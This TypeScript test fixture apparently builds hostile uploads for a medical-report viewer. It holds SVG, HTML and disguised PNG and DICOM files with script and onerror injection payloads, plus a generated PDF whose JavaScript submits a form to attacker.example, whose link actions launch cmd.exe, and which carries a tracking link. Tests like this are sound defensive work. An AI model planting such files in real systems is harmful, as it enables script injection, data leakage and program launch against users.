const SCRIPT = "<script>window.top.document.title = 'OWNED'</script>";

/** What an attacker puts into reports, by the names of the files. */
export const HOSTILE_FILES: Readonly<Record<string, Buffer>> = {
  'drawing.svg': Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" onload="document.title='OWNED'">${SCRIPT}</svg>`,
  ),
  'picture.png': Buffer.from(
    `<!doctype html><body>${SCRIPT}<img src=x onerror="document.title='OWNED'">`,
  ),
  'page.html': Buffer.from(`<!doctype html><body>${SCRIPT}`),
  'object.dcm': Buffer.from(`<!doctype html><body>${SCRIPT}`),
  'document.pdf': Buffer.from(scriptedPdf(), 'latin1'),
  'broken picture.png': Buffer.from('\x89PNG\r\n\x1a\n and then nothing of the kind', 'latin1'),
  'broken object.dcm': Buffer.concat([
    Buffer.alloc(128),
    Buffer.from('DICM'),
    Buffer.from(`\x08\0\x70\0UT\0\0\xf0\xff\xff\xff${SCRIPT}`, 'latin1'),
  ]),
};

/** Opens with a script, launches a program by a link, asks for a site by another one. */
function scriptedPdf(): string {
  const stream = 'BT /F1 24 Tf 72 700 Td (Discharge letter) Tj ET';
  const objects = [
    "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('https://attacker.example/'\\)) >> /AA << /WC << /S /JavaScript /JS (app.alert\\(2\\)) >> >> >>",
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /Annots [6 0 R 7 0 R 8 0 R] >>',
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    '<< /Type /Annot /Subtype /Link /Rect [72 600 300 640] /A << /S /Launch /F (cmd.exe) >> >>',
    '<< /Type /Annot /Subtype /Link /Rect [72 500 300 540] /A << /S /URI /URI (https://attacker.example/track) >> >>',
    '<< /Type /Annot /Subtype /Link /Rect [72 400 300 440] /A << /S /JavaScript /JS (app.alert\\(3\\)) >> >>',
  ];
  let file = '%PDF-1.7\n';
  const offsets = objects.map((object, index) => {
    const at = file.length;
    file += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return at;
  });
  const table = file.length;
  file += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  file += offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('');
  return `${file}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${table}\n%%EOF\n`;
}
